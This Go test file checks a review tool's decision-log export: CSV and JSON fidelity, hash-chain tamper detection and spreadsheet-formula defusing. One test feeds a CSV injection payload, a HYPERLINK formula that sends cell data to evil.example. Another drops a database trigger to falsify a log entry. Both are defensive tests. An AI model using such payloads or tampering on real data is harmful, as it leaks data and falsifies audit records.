package main

import (
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/caisson-review/caisson-review/caisson"
	"github.com/caisson-review/caisson-review/caisson/sandbox"

	_ "modernc.org/sqlite"
)

// awkwardCustomer is a customer id as integrators really write them, and
// worse: commas, quotes, a doubled quote, a leading space.
const awkwardCustomer = ` 1234321 - Doe, "Jamie", ""J"", a,b,,c "`

// seedAwkwardCheck tracks a check whose cached result carries
// awkwardCustomer, as if the API had sent it.
func seedAwkwardCheck(t *testing.T, f *fixture, id string) {
	t.Helper()
	cust, _ := json.Marshal(awkwardCustomer)
	body := fmt.Sprintf(`{"check_id": %q, "customer_id": %s, "checked_on": "2026-07-19T15:00:42-04:00",
		"confidence": {"document": "high", "face": "medium", "reasons": [{"code": 201, "description": "x"}]},
		"info": {"first_name": "JAMIE", "last_name": "DOE", "expires_on": "2031-01-01T00:00:00Z"}}`, id, cust)
	chk, err := caisson.DecodeCheck([]byte(body))
	if err != nil {
		t.Fatalf("decoding the crafted body: %v", err)
	}
	f.must(0, "add", id)
	st := f.openStore()
	if err := st.RecordFetch(t.Context(), id, chk, nil, time.Now()); err != nil {
		t.Fatalf("recording the crafted result: %v", err)
	}
}

func decideAFew(t *testing.T, f *fixture, id string) {
	t.Helper()
	f.must(0, "decide", id, "escalate", "--note", "looks \"odd\", see ticket 7,\nsecond line")
	f.must(0, "decide", id, "reopen")
	f.must(0, "--reviewer", "bob", "decide", id, "approve", "--note", "fine")
}

func TestExportCSVRoundTripsACustomerIDFullOfCommasAndQuotes(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--format", "csv")
	if !strings.Contains(r.stdout, "\r\n") {
		t.Errorf("RFC 4180 wants CRLF line ends:\n%q", r.stdout)
	}
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, r.stdout)
	}
	if got := strings.Join(records[0], ","); got != "seq,check_id,customer_id,action,note,reviewer,time,response_hash,prev_hash,hash" {
		t.Fatalf("header: %s", got)
	}
	if len(records) != 4 {
		t.Fatalf("want a header and 3 decisions, got %d records", len(records))
	}
	wantActions := []string{"escalate", "reopen", "approve"}
	wantReviewers := []string{"alice", "alice", "bob"}
	for i, rec := range records[1:] {
		if rec[0] != fmt.Sprint(i+1) || rec[1] != id || rec[2] != awkwardCustomer || rec[3] != wantActions[i] || rec[5] != wantReviewers[i] {
			t.Errorf("record %d: got %q", i+1, rec)
		}
		if _, err := time.Parse(time.RFC3339Nano, rec[6]); err != nil {
			t.Errorf("record %d: time %q is not RFC 3339: %v", i+1, rec[6], err)
		}
		if len(rec[9]) != 64 || (i > 0 && rec[8] != records[i][9]) {
			t.Errorf("record %d: the hash chain is not what was stored: prev %q, hash %q", i+1, rec[8], rec[9])
		}
	}
	// The note's newline is escaped for the terminal, its quotes kept.
	if got := records[1][4]; got != `looks "odd", see ticket 7,^Jsecond line` {
		t.Errorf("note: got %q", got)
	}
}

func TestExportJSONKeepsEveryStringExact(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--format", "json")
	var got []decisionJSON
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, r.stdout)
	}
	if len(got) != 3 {
		t.Fatalf("want 3 decisions, got %d", len(got))
	}
	if got[0].CustomerID != awkwardCustomer || got[0].Note != "looks \"odd\", see ticket 7,\nsecond line" || got[2].Reviewer != "bob" {
		t.Errorf("got %+v", got[0])
	}
	if got[0].ResponseHash == "" || got[1].PrevHash != got[0].Hash || got[2].PrevHash != got[1].Hash {
		t.Errorf("hashes do not chain: %+v", got)
	}

	// --since after every decision: an empty log, still valid JSON.
	r = f.must(0, "export", "--format", "json", "--since", time.Now().Add(time.Hour).UTC().Format(time.RFC3339))
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || len(got) != 0 {
		t.Errorf("--since in the future: want [], got %q (%v)", r.stdout, err)
	}
	r = f.must(0, "export", "--since", "2000-01-01")
	if n := strings.Count(r.stdout, "\r\n"); n != 4 {
		t.Errorf("--since 2000-01-01: want 4 CSV lines, got %d", n)
	}
}

func TestExportVerify(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--verify")
	mustContain(t, "stdout", r.stdout, "decision log intact: 3 entries")

	// Tamper as someone with the file would: around the store's trigger.
	db, err := sql.Open("sqlite", f.db)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{
		"DROP TRIGGER decisions_no_update",
		"UPDATE decisions SET reviewer = 'mallory' WHERE seq = 2",
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	db.Close()
	r = f.must(1, "export", "--verify")
	mustContain(t, "stderr", r.stderr, "decision log BROKEN at entry 2 of 3")
}

func TestExportUsageErrors(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	for name, args := range map[string][]string{
		"unknown format":  {"export", "--format", "xml"},
		"a bad date":      {"export", "--since", "yesterday"},
		"a stray word":    {"export", "now"},
		"a missing value": {"export", "--format"},
	} {
		t.Run(name, func(t *testing.T) {
			if r := f.run(args...); r.code != 2 {
				t.Fatalf("want exit 2, got\n%s", r)
			}
		})
	}
}

func TestExportCSVDefusesSpreadsheetFormulas(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	f.must(0, "add", id)
	f.must(0, "refresh", id)
	f.must(0, "decide", id, "escalate", "--note", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "--reviewer", "@mallory")
	r := f.must(0, "export", "--format", "csv")
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	note, reviewer := records[1][4], records[1][5]
	if note != `'=HYPERLINK("http://evil.example/?"&A1,"click")` || reviewer != "'@mallory" {
		t.Errorf("a field starting with = or @ must be quoted as text: note %q, reviewer %q", note, reviewer)
	}
	// JSON is for programs: it keeps the note exact.
	r = f.must(0, "export", "--format", "json")
	mustContain(t, "json", r.stdout, `"note": "=HYPERLINK(`)
}
